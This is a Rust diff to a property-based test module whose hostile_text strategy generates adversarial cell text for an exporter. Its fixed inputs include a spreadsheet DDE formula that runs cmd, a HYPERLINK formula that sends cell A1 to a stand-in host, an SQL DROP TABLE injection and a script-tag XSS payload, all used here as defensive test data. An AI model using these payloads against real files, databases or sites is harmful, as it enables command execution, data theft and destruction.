@@ -2,6 +2,7 @@
 
 use proptest::prelude::*;
 
+use super::quantity::written;
 use super::{altered, draft, filled_in_partly, published};
 use crate::draft::{Cell, Draft, Notice, NoticeKind, Origin, Run, Source};
 use crate::quantity::Number;
@@ -10,13 +11,13 @@ use crate::quantity::Number;
 /// control characters, line ends; and any other short text, or none.
 pub fn hostile_text() -> impl Strategy<Value = String> {
     prop_oneof![
-        "[=+@'\\-\t\r\n\",;？（＝－＠\u{feff}a0 \u{0}]{0,5}",
+        written("[=+@'\\-\t\r\n\",;？（＝－＠\u{feff}a0 \u{0}]{0,5}"),
         Just("=cmd|' /C calc'!A0".to_owned()),
         Just("=HYPERLINK(\"http://a.example/\"&A1,\"x\")".to_owned()),
         Just("'); DROP TABLE reports; --\\".to_owned()),
         Just("</td><script>alert(1)</script>${x}".to_owned()),
         Just("\r\n".to_owned()),
-        ".{0,8}",
+        written(".{0,8}"),
     ]
 }
 
